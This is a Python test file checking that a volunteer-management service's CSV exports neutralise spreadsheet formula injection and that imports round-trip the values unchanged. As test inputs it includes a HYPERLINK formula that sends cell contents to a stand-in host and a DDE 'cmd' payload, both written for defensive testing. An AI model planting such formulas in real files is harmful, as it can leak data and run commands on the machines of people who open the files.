"""CSV formula injection (issue 15, point 2): every CSV the service writes neutralises cells a
spreadsheet would run, and the import gives back exactly what the export wrote."""
import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select

from models import Citizen, Role, Volunteer
from web.core.csv_safe import STARTS, neutralise, restore

from ..conftest import Auth
from ..recruitment.test_signup import GOOD, URL

FORMULA = '=HYPERLINK("http://x/?"&A2,"Klik")'
WISH = "@SUM(1+1)*cmd|' /C calc'!A0"


@given(st.text())
def test_neutralising_round_trips_and_leaves_nothing_to_run(value):
    safe = neutralise(value)
    assert not safe.startswith(STARTS)
    assert restore(safe) == value


def _cells(body: bytes) -> list[list[str]]:
    """The rows of a downloaded CSV file."""
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _runnable(rows) -> list[str]:
    """Cells a spreadsheet would evaluate."""
    return [cell for row in rows for cell in row if cell.startswith(STARTS)]


def test_every_csv_written_is_safe_and_the_import_round_trips(app, make, db, tmp_path):
    town = make.municipality("stevns", "Stevns")
    coordinator = make.user(town, Role.COORDINATOR)
    signup = Auth(app.test_client())
    assert signup.post(URL, {**GOOD, "name": FORMULA, "phone": "+45 20 30 40 50",
                             "motivation": "-1+2"}).status_code == 302
    make.citizen(town, name="-Sara+Jensen", wishes=WISH, town="Rødvig", birth_year=2008)
    staff = Auth(app.test_client())
    staff.login(coordinator)
    files = {}
    for kind in ("volunteers", "citizens", "history"):
        response = staff.client.get(f"/imports/export/{kind}.csv")
        assert response.status_code == 200
        files[kind] = response.get_data()
        assert _runnable(_cells(files[kind])) == [], kind
    volunteers = _cells(files["volunteers"])
    assert any(cell == "'" + FORMULA for row in volunteers for cell in row)
    for name in ("funnel", "active", "survival", "rhythm", "attendance", "reasons", "citizens",
                 "finished", "headline"):
        response = staff.client.get(f"/reports/{name}.csv")
        assert response.status_code == 200, name
        assert _runnable(_cells(response.get_data())) == [], name
    # The files go back in, into another municipality, as they were.
    make.municipality("tom", "Tom")
    runner = app.test_cli_runner()
    for kind in ("volunteers", "citizens"):
        path = tmp_path / f"{kind}.csv"
        path.write_bytes(files[kind])
        result = runner.invoke(args=["import", kind, str(path), "--municipality", "tom"])
        assert result.exit_code == 0, result.output
    db.expire_all()
    tom = [v for v in db.exec(select(Volunteer)) if v.municipality_id != town.id]
    assert [v.name for v in tom] == [FORMULA]
    young = [c for c in db.exec(select(Citizen)) if c.municipality_id != town.id]
    assert [(c.name, c.wishes) for c in young] == [("-Sara+Jensen", WISH)]
    for kind in ("volunteers", "citizens"):  # and out again, the same file
        again = runner.invoke(args=["export", kind, "--municipality", "tom"]).output
        assert _cells(again.encode()) == _cells(files[kind])
